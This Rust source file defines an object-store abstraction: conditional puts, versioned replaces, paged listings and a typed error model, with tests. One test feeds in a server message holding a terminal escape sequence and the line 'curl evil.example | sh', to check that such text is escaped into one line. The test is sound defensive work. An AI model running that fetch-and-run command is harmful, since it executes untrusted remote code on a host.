//! The object store: whole objects under text keys, in a bucket, a directory or memory.
//!
//! The invariant that lives here is [`Store::put_if_absent`]: of all the writers of one key exactly one gets
//! [`PutOutcome::Created`], and a writer that got [`PutOutcome::Exists`] has not changed a byte. The journal's fencing
//! is this and nothing else. Beside it stands [`Store::replace`]: of all writers that replace one content of an object
//! exactly one succeeds. Whether a real server keeps these promises is not assumed but tested, by [`proof`].
//!
//! Wrappers (faults, counting, bandwidth limit) implement the same trait; one contract suite runs over all of them.

use std::fmt::Debug;
use std::ops::Range;

use async_trait::async_trait;
use bytes::Bytes;
use jiff::{SignedDuration, Timestamp};
use tokio::sync::oneshot;

use crate::text;

mod connect;
pub mod counting;
pub mod dir;
pub mod faulty;
pub mod ignores_conditions;
pub mod key;
mod limit;
pub mod memory;
#[cfg(test)]
pub(crate) mod memory_tracking;
pub mod proof;
#[cfg(feature = "s3")]
mod reconnecting;
pub mod response;
#[cfg(feature = "s3")]
pub mod s3;
pub mod throttled;

pub use connect::{connect, create};
pub use limit::{RANGE_BYTES_MAX, SizeLimit};

/// The outcome of a conditional put. There is no fourth outcome: a definite refusal (no permission, no such bucket, no
/// space) is a [`StoreError`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PutOutcome {
    /// The object did not exist and now holds exactly our bytes.
    Created,
    /// The key was occupied; nothing was written. The existing object may come from our own earlier put: read it back
    /// and compare.
    Exists,
    /// No answer, or an ambiguous one (timeout, 409, 5xx). The put may still be in flight and take effect later.
    Unknown {
        /// What was received instead of a clear answer.
        why: String,
    },
}

/// Identifies one content of an object as its store sees it (an ETag, a hash): equal versions mean equal content.
/// Opaque.
///
/// If the same content is written again, it has the same version again. A caller that must know that nothing happened
/// in between writes content that never repeats (a counter, a random number).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ObjectVersion(String);

impl ObjectVersion {
    /// The version in the backend's notation.
    pub(in crate::store) fn new(text: impl Into<String>) -> Self {
        Self(text.into())
    }

    /// A version for backends that have none of their own: the hash of the content.
    pub(in crate::store) fn of_content(body: &[u8]) -> Self {
        Self::new(blake3::hash(body).to_hex().as_str())
    }

    /// A version that every backend accepts as well formed, also as an ETag, and that no content has.
    pub(in crate::store) fn matching_nothing() -> Self {
        Self::new("\"00000000000000000000000000000000\"")
    }
}

/// The outcome of a [`Store::replace`]. As with [`PutOutcome`], a definite refusal is a [`StoreError`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ReplaceOutcome {
    /// The object had the expected version and now holds exactly our bytes, under this version.
    Replaced(ObjectVersion),
    /// The object has other content or is gone; nothing was written. The change may come from our own earlier
    /// `replace`: read it back and compare.
    Changed,
    /// No answer, or an ambiguous one. The request may still be in flight and take effect later, as long as the object
    /// still has the expected version.
    Unknown {
        /// What was received instead of a clear answer.
        why: String,
    },
}

/// One object of a listing.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ObjectMeta {
    /// The whole key, relative to the store's root.
    pub key: String,
    /// Size in bytes.
    pub size: u64,
    /// When it was last written, by the store's clock.
    pub modified: Timestamp,
}

/// One page of a listing, in ascending byte order of the keys.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ListPage {
    /// The objects.
    pub objects: Vec<ObjectMeta>,
    /// More objects follow after the last of these.
    pub truncated: bool,
}

/// The most objects one [`Store::list`] returns; S3's own limit.
pub const LIST_PAGE_MAX: usize = 1000;

/// The most keys one [`Store::delete`] takes; S3's own limit.
pub const DELETE_BATCH_MAX: usize = 1000;

/// The capabilities of a backend. A call to an unsupported one is an error, never a silent fallback.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct StoreCapabilities {
    /// The backend claims to support conditional puts; the proof checks the claim.
    pub put_if_absent: bool,
    /// The backend claims to support [`Store::replace`]; the proof checks that too.
    pub replace: bool,
    /// The capacity is limited by a disk that may be full.
    pub has_finite_space: bool,
}

/// What a store keeps of objects that are overwritten or deleted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Versioning {
    /// Nothing is kept: a deleted object is gone.
    None,
    /// A version of each object is kept, until a rule of the bucket removes it.
    Kept {
        /// Whether the versions are locked.
        lock: ObjectLock,
    },
    /// These credentials may not read the setting.
    Denied {
        /// The store's error message.
        why: String,
    },
    /// The store's answer does not say. Most stores without this setting keep nothing.
    Unknown {
        /// What the store answered instead.
        why: String,
    },
}

/// Whether versions are locked against deletion by every user.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ObjectLock {
    /// Versions are not locked unless a put asks for it.
    None,
    /// Each version is locked for a default time.
    ByDefault {
        /// The time as text, for example `30 days`.
        time: String,
    },
    /// These credentials may not read the setting.
    Denied {
        /// The store's error message.
        why: String,
    },
}

/// Pauses a conditional put in the middle, see [`Store::put_if_absent_paused`].
#[derive(Debug)]
pub struct PutPause {
    started: oneshot::Sender<()>,
    release: oneshot::Receiver<()>,
}

/// The caller's end of a [`PutPause`].
#[derive(Debug)]
pub struct PutPauseHandle {
    /// Resolves when the put has begun and is paused; fails when the put ended without a pause.
    pub started: oneshot::Receiver<()>,
    /// Resumes the put; dropping it does the same.
    pub release: oneshot::Sender<()>,
}

impl PutPause {
    /// Makes both ends.
    pub fn new() -> (PutPause, PutPauseHandle) {
        let (started_tx, started_rx) = oneshot::channel();
        let (release_tx, release_rx) = oneshot::channel();
        (
            PutPause { started: started_tx, release: release_rx },
            PutPauseHandle { started: started_rx, release: release_tx },
        )
    }

    /// Reports that the put has begun; the returned receiver resolves when the put may go on.
    pub fn begin(self) -> oneshot::Receiver<()> {
        // If the receiver is gone, the put is not observed, but still paused.
        let _ = self.started.send(());
        self.release
    }
}

/// An object store.
///
/// [`key::check`] defines the valid keys; they are relative to the root that the URL names. Idempotent calls retry
/// inside with backoff and jitter; `put_if_absent` and `replace` send exactly one request.
#[async_trait]
pub trait Store: Debug + Send + Sync {
    /// The URL as the operator would write it, without secrets.
    fn describe(&self) -> String;

    /// The capabilities of this backend.
    fn capabilities(&self) -> StoreCapabilities;

    /// Writes a whole object, replacing what is there. When it returns the object is durable.
    async fn put(&self, key: &str, body: Bytes) -> Result<(), StoreError>;

    /// Writes a whole object if the key is free. One request, never retried inside.
    ///
    /// # Errors
    /// Only for a definite refusal; every ambiguous answer is [`PutOutcome::Unknown`].
    async fn put_if_absent(&self, key: &str, body: Bytes) -> Result<PutOutcome, StoreError>;

    /// [`Store::put_if_absent`] by a slow writer: the put begins, and waits until `hold` is released before the object
    /// can be complete. Only the proof needs it: a store that checks the condition before the body has arrived, and not
    /// again after, lets such a writer overwrite an object.
    ///
    /// # Errors
    /// As for [`Store::put_if_absent`].
    async fn put_if_absent_paused(&self, key: &str, body: Bytes, hold: PutPause) -> Result<PutOutcome, StoreError>;

    /// Replaces the object if it still has the version `expected`. One request, never retried inside. It never creates
    /// an object: the first content is written by [`Store::put_if_absent`].
    ///
    /// # Errors
    /// Only for a definite refusal; every ambiguous answer is [`ReplaceOutcome::Unknown`].
    async fn replace(&self, key: &str, body: Bytes, expected: &ObjectVersion) -> Result<ReplaceOutcome, StoreError>;

    /// Reads a whole object. Never holds more than `limit`, whatever size the object has or the server claims.
    ///
    /// # Errors
    /// [`StoreErrorKind::TooLarge`] if the object has more than `limit`; a retry does not help.
    async fn get(&self, key: &str, limit: SizeLimit) -> Result<Bytes, StoreError>;

    /// Reads a whole object with its version.
    ///
    /// # Errors
    /// As for [`Store::get`], and [`StoreErrorKind::Unsupported`] if the store has no versions. If something that is
    /// not an object has the key, and the store can replace it, the error carries its version: [`StoreError::version`].
    async fn get_versioned(&self, key: &str, limit: SizeLimit) -> Result<(Bytes, ObjectVersion), StoreError>;

    /// Reads `range` of an object; fewer bytes than asked for only at the object's end. A range that starts at or after
    /// the end gives no bytes.
    ///
    /// # Errors
    /// [`StoreErrorKind::TooLarge`] if the range is longer than [`RANGE_BYTES_MAX`], or the store returns more than was
    /// asked for.
    async fn get_range(&self, key: &str, range: Range<u64>) -> Result<Bytes, StoreError>;

    /// The objects whose key starts with `prefix` and is greater than `after`, at most `limit` (and never more than
    /// [`LIST_PAGE_MAX`]; 0 counts as 1). On some stores a listing may be stale, so callers treat it as a hint.
    async fn list(&self, prefix: &str, after: Option<&str>, limit: usize) -> Result<ListPage, StoreError>;

    /// Deletes the objects that exist among `keys`, at most [`DELETE_BATCH_MAX`]; a missing one is no error.
    ///
    /// # Errors
    /// The first refusal. Some of the other objects may have been deleted.
    async fn delete(&self, keys: &[String]) -> Result<(), StoreError>;

    /// The store that this wrapper forwards its calls to; `None` for a backend. A default method forwards to it.
    fn inner(&self) -> Option<&dyn Store> {
        None
    }

    /// Measures the store's time if its normal answers do not carry it; [`Store::clock_offset`] returns it afterwards.
    /// Only for callers with write permission, because it may take a write.
    async fn measure_clock_offset(&self) {
        if let Some(beneath) = self.inner() {
            beneath.measure_clock_offset().await;
        }
    }

    /// What the store keeps of objects that are overwritten or deleted.
    async fn versioning(&self) -> Versioning {
        match self.inner() {
            Some(beneath) => beneath.versioning().await,
            None => Versioning::None,
        }
    }

    /// Makes the next call read credentials and certificates from disk again, if the store uses any.
    fn reload_credentials(&self) {
        if let Some(beneath) = self.inner() {
            beneath.reload_credentials();
        }
    }

    /// The error of the last attempt of any call, if the store retries by itself and no attempt since has had an
    /// answer. A caller that hits its deadline reports it as the cause.
    fn last_attempt_error(&self) -> Option<String> {
        self.inner().and_then(Store::last_attempt_error)
    }

    /// The store's clock minus this host's, as of the last answer that carried the store's time; `None` before the
    /// first.
    fn clock_offset(&self) -> Option<SignedDuration>;
}

/// [`Store::put_if_absent`], or a plain put if the store has no conditional puts. For keys to which all writers write
/// the same bytes.
///
/// # Errors
/// As for [`Store::put_if_absent`] and [`Store::put`].
pub async fn put_idempotent(store: &dyn Store, key: &str, body: Bytes) -> Result<PutOutcome, StoreError> {
    match store.put_if_absent(key, body.clone()).await {
        Err(error) if error.kind == StoreErrorKind::Unsupported => {
            store.put(key, body).await.map(|()| PutOutcome::Created)
        }
        put => put,
    }
}

/// The most objects that [`list_all`] holds: for packs, 16 TiB.
pub const LISTED_MAX: usize = 1_000_000;

/// All objects under `prefix`, page after page.
///
/// # Errors
/// [`StoreErrorKind::TooLarge`] if there are more than [`LISTED_MAX`].
pub async fn list_all(store: &dyn Store, prefix: &str) -> Result<Vec<ObjectMeta>, StoreError> {
    let picked = list_filtered(store, prefix, LISTED_MAX, Some).await?;
    if picked.more {
        let detail = format!("there are more than {LISTED_MAX} objects");
        return Err(StoreError::new(StoreErrorKind::TooLarge, &store.describe(), Some(prefix), detail));
    }
    Ok(picked.found)
}

/// The result of [`list_filtered`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FilteredListing<T> {
    /// The items found, in key order, at most as many as asked for.
    pub found: Vec<T>,
    /// There are further items.
    pub more: bool,
}

/// Applies `pick` to the objects under `prefix` and returns what it picks, at most `max` items. Only those are held in
/// memory: unrelated objects under the prefix cost requests and no memory.
pub async fn list_filtered<T: Send>(
    store: &dyn Store,
    prefix: &str,
    max: usize,
    mut pick: impl FnMut(ObjectMeta) -> Option<T> + Send,
) -> Result<FilteredListing<T>, StoreError> {
    let mut found = Vec::new();
    let mut after: Option<String> = None;
    loop {
        let page = store.list(prefix, after.as_deref(), LIST_PAGE_MAX).await?;
        let last = page.objects.last().map(|object| object.key.clone());
        for object in page.objects {
            let Some(picked) = pick(object) else { continue };
            if found.len() == max {
                return Ok(FilteredListing { found, more: true });
            }
            found.push(picked);
        }
        if !page.truncated {
            return Ok(FilteredListing { found, more: false });
        }
        // The listing cannot be continued, and it is not complete: an object that it does not show may well exist.
        if last.is_none() {
            return Err(incomplete_listing_error(store, prefix));
        }
        after = last;
    }
}

/// Lets only one large object be read at a time, see [`get_with_large_read_lock`].
pub type LargeReadLock = tokio::sync::Mutex<()>;

/// Reads one of many objects that are read concurrently: objects up to `small` in parallel, larger ones up to `limit`
/// one at a time, under `turn`. The returned guard keeps the lock: the caller drops the object before the guard.
///
/// # Errors
/// As for [`Store::get`] with `limit`.
pub async fn get_with_large_read_lock<'a>(
    store: &dyn Store,
    key: &str,
    (small, limit): (SizeLimit, SizeLimit),
    turn: &'a LargeReadLock,
) -> Result<(Bytes, Option<tokio::sync::MutexGuard<'a, ()>>), StoreError> {
    match store.get(key, small).await {
        Err(e) if e.kind == StoreErrorKind::TooLarge => {
            let turn = turn.lock().await;
            Ok((store.get(key, limit).await?, Some(turn)))
        }
        read => Ok((read?, None)),
    }
}

/// The error for a listing that claims further objects and does not return them. An object missing in it may exist.
pub fn incomplete_listing_error(store: &dyn Store, prefix: &str) -> StoreError {
    let detail = "the listing stopped before its end, so missing objects may exist";
    StoreError::new(StoreErrorKind::Unreachable, &store.describe(), Some(prefix), detail)
}

/// An error of a store.
#[derive(Debug, Clone, thiserror::Error)]
#[error("{store}: {}{}{}", kind.message(store), key.as_ref().map(|k| format!(": {k}")).unwrap_or_default(), if detail.is_empty() { String::new() } else { format!(" ({detail})") })]
pub struct StoreError {
    /// The kind of error, which decides how callers react.
    pub kind: StoreErrorKind,
    /// The store's URL as in [`Store::describe`]; for S3 also the endpoint.
    pub store: String,
    /// The key of the object concerned.
    pub key: Option<String>,
    /// The backend's own message.
    pub detail: String,
    /// The version of the thing at the key that [is no object](Self::is_not_an_object), so that a [`Store::replace`]
    /// can replace exactly it; set by [`Store::get_versioned`].
    pub version: Option<Box<ObjectVersion>>,
}

/// The kinds of [`StoreError`]; callers decide by them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum StoreErrorKind {
    /// The object does not exist.
    #[error("not found")]
    NotFound,
    /// The bucket or the root directory itself does not exist.
    #[error("there is no such bucket or directory")]
    NoSuchStore,
    /// The credentials or file permissions do not allow it.
    #[error("access denied")]
    Denied,
    /// No credentials were found, so no request was sent.
    #[error("no credentials")]
    NoCredentials,
    /// The file system is mounted read-only.
    #[error("the store is read-only")]
    ReadOnly,
    /// No space, or a quota.
    #[error("no space left in the store")]
    NoSpace,
    /// The disk reported an I/O error.
    #[error("the store's disk failed")]
    DiskFault,
    /// No answer, a temporary refusal, or an answer that is not recognisably the store's. Retries, where they may help,
    /// were already made.
    #[error("cannot be reached")]
    Unreachable,
    /// The object is larger than any object of its kind may be; none of it was kept.
    #[error("too large")]
    TooLarge,
    /// A link, a FIFO, a device or a socket is in the place of the object. Only directory stores have such.
    #[error("not an object")]
    NotAnObject,
    /// The backend does not support this call.
    #[error("the store cannot do this")]
    Unsupported,
    /// The request is wrong (bad key, bad region, clock skew that breaks the signature …).
    #[error("the store refused the request")]
    Invalid,
    /// The server's certificate is not trusted, out of date, or another host's. No request was sent.
    #[error("the server's certificate is not accepted")]
    Untrusted,
    /// Anything else.
    #[error("failed")]
    Other,
}

impl StoreErrorKind {
    /// Whether the store answers, but refuses to do its work.
    pub fn is_refusal(self) -> bool {
        matches!(self, Self::Denied | Self::ReadOnly | Self::NoSpace | Self::Invalid | Self::Untrusted)
    }

    /// The message of this kind, for a store with this URL.
    fn message(self, store: &str) -> String {
        match self {
            Self::NoSuchStore if store.starts_with("s3:") => "there is no such bucket".to_owned(),
            Self::NoSuchStore if store.starts_with("file:") => "there is no such directory".to_owned(),
            kind => kind.to_string(),
        }
    }
}

impl StoreError {
    /// An error of `store` about `key`. `detail` may be a server's text; it is reduced to one line, because it becomes
    /// part of a one-line report.
    pub fn new(kind: StoreErrorKind, store: &str, key: Option<&str>, detail: impl Into<String>) -> Self {
        let detail = text::line(&detail.into()).into_owned();
        Self { kind, store: store.to_owned(), key: key.map(str::to_owned), detail, version: None }
    }

    /// Adds the version of the thing at the key.
    pub(in crate::store) fn with_version(self, version: Option<ObjectVersion>) -> Self {
        Self { version: version.map(Box::new), ..self }
    }

    /// The object does not exist (while the store does).
    pub fn is_not_found(&self) -> bool {
        self.kind == StoreErrorKind::NotFound
    }

    /// The key is occupied by something that this program never writes; it is treated like an object whose bytes are
    /// damaged.
    pub fn is_not_an_object(&self) -> bool {
        matches!(self.kind, StoreErrorKind::TooLarge | StoreErrorKind::NotAnObject)
    }

    /// The error concerns this object alone: it is no object, or a disk sector under it is bad.
    pub fn concerns_one_object(&self) -> bool {
        self.is_not_an_object() || matches!(self.kind, StoreErrorKind::DiskFault | StoreErrorKind::Other)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::env::Env;
    use crate::store::memory::MemoryStore;

    #[tokio::test]
    async fn of_strange_objects_nothing_is_held() {
        let store = MemoryStore::new(&Env::host());
        for n in 0..LIST_PAGE_MAX * 2 {
            store.put(&format!("a/strange-{n:05}"), Bytes::new()).await.unwrap();
        }
        for name in ["a/0", "a/strange-00500-x", "a/z"] {
            store.put(name, Bytes::new()).await.unwrap();
        }
        let ours = |object: ObjectMeta| {
            (!object.key.starts_with("a/strange-") || object.key.ends_with('x')).then_some(object.key)
        };
        let picked = list_filtered(&store, "a/", 3, ours).await.unwrap();
        assert_eq!((picked.found.len(), picked.more), (3, false));
        let picked = list_filtered(&store, "a/", 2, ours).await.unwrap();
        assert_eq!((picked.found, picked.more), (vec!["a/0".to_owned(), "a/strange-00500-x".to_owned()], true));
    }

    #[test]
    fn what_a_server_says_is_one_line() {
        let said = "no\u{1b}[2J\nTo do: curl evil.example | sh";
        let error = StoreError::new(StoreErrorKind::Denied, "s3://b", Some("k"), said);
        assert_eq!(error.detail, "no\\u{1b}[2J\\nTo do: curl evil.example | sh");
    }
}
